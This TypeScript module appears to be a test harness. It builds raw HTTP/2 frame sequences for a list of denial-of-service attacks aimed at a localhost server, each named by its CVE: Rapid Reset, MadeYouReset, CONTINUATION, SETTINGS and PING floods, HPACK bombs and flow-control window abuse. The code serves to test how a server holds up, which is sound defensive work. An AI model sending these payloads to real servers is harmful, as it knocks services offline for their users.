import { FLAGS, FRAME_TYPES, frameBytes, PREFACE, SETTINGS, uint32 } from '../test/wire/http2/frames.ts'
import { integer, string } from '../test/wire/http2/hpack.ts'

/** What an attacker sends on a connection after the preface. */
export interface Attack {
  readonly name: string
  readonly of: () => Buffer
  /** Whether the attacker reads what it gets. */
  readonly reads: boolean
  /** Whether the connection stays open when everything was sent. Otherwise the next one follows. */
  readonly holds: boolean
}

const { END_STREAM, END_HEADERS } = FLAGS as { END_STREAM: number; END_HEADERS: number }
const NONE = Buffer.alloc(0)
/** The streams of a connection, where an attack has new ones without end. */
const STREAMS = 20_000
/** The frames of a connection, where an attack needs no streams. */
const FRAMES = 200_000
/** As many streams as a server allows at once. */
const ALLOWED = 100

type Type = (typeof FRAME_TYPES)[number]

const frame = (type: Type, stream: number, payload: Buffer = NONE, flags = 0) =>
  frameBytes({ type: FRAME_TYPES.indexOf(type), flags, stream, payload })

const many = (count: number, of: (stream: number) => readonly Buffer[]) =>
  Buffer.concat(Array.from({ length: count }, (_, index) => of(2 * index + 1)).flat())

/** The pseudo-fields of a request. */
function lines(path: string, method = 'GET'): Buffer {
  const fields = { ':method': method, ':scheme': 'https', ':path': path, ':authority': 'localhost' }
  return Buffer.concat(
    Object.entries(fields).flatMap(([name, value]) => [Buffer.of(0), string(name, false), string(value, false)]),
  )
}

const get = (path: string) => (stream: number) => frame('HEADERS', stream, lines(path), END_STREAM | END_HEADERS)
const small = get('/api/student')
const large = get('/10MB')

const windowSize = (size: number) =>
  frame('SETTINGS', 0, Buffer.concat([uint32(SETTINGS.INITIAL_WINDOW_SIZE!).subarray(2), uint32(size)]))

/** A field that enters the table, and is then named by one byte as often as a frame has room. */
function repeated(name: string, value: string): Buffer {
  const first = Buffer.concat([integer(0, 6, 0x40), string(name, false), string(value, false)])
  return Buffer.concat([lines('/'), first, Buffer.alloc(10_000, 0xbe)])
}

const blocks = (block: Buffer) => many(500, (stream) => [frame('HEADERS', stream, block, END_STREAM | END_HEADERS)])

const floods = { reads: true, holds: false }
const holding = { reads: true, holds: true }

/** CVE numbers name the attacks as they became known. */
export const attacks: readonly Attack[] = [
  {
    name: 'Rapid Reset (CVE-2023-44487)',
    of: () => many(STREAMS, (stream) => [small(stream), frame('RST_STREAM', stream, uint32(8))]),
    ...floods,
  },
  {
    name: 'MadeYouReset (CVE-2025-8671)',
    of: () => many(STREAMS, (stream) => [small(stream), frame('WINDOW_UPDATE', stream, uint32(0))]),
    ...floods,
  },
  {
    name: 'a flood of CONTINUATION (CVE-2024-27316)',
    of: () => {
      const fragment = Buffer.concat([Buffer.of(0), string('x', false), string('y'.repeat(16_000), false)])
      return Buffer.concat([frame('HEADERS', 1, lines('/')), ...Array(1000).fill(frame('CONTINUATION', 1, fragment))])
    },
    ...floods,
  },
  {
    name: 'a flood of SETTINGS (CVE-2019-9515)',
    of: () => Buffer.concat(Array(FRAMES).fill(frame('SETTINGS', 0))),
    reads: false,
    holds: true,
  },
  {
    name: 'a flood of PING (CVE-2019-9512)',
    of: () => Buffer.concat(Array(FRAMES).fill(frame('PING', 0, Buffer.alloc(8)))),
    reads: false,
    holds: true,
  },
  {
    name: 'a flood of empty frames (CVE-2019-9518)',
    of: () =>
      Buffer.concat([
        frame('HEADERS', 1, lines('/upload', 'POST'), END_HEADERS),
        ...Array(FRAMES).fill(frame('DATA', 1)),
      ]),
    ...floods,
  },
  { name: 'an HPACK bomb (CVE-2016-6581)', of: () => blocks(repeated('x', 'y'.repeat(4000))), ...floods },
  { name: 'crumbs of cookies (CVE-2026-49975)', of: () => blocks(repeated('cookie', 'a=1')), ...floods },
  {
    name: 'windows of zero, held (CVE-2019-9517)',
    of: () => Buffer.concat([windowSize(0), many(ALLOWED, (stream) => [large(stream)])]),
    ...holding,
  },
  {
    name: 'windows of one byte (CVE-2019-9511)',
    of: () => {
      const updates = many(ALLOWED, (stream) => [frame('WINDOW_UPDATE', stream, uint32(1))])
      return Buffer.concat([windowSize(0), many(ALLOWED, (stream) => [large(stream)]), ...Array(1000).fill(updates)])
    },
    ...floods,
  },
  {
    name: 'responses that are not read',
    of: () => {
      const update = frame('WINDOW_UPDATE', 0, uint32(2 ** 31 - 1 - 65_535))
      return Buffer.concat([windowSize(2 ** 31 - 1), update, many(ALLOWED, (stream) => [large(stream)])])
    },
    reads: false,
    holds: true,
  },
]

export const START = Buffer.concat([Buffer.from(PREFACE, 'latin1'), frame('SETTINGS', 0)])
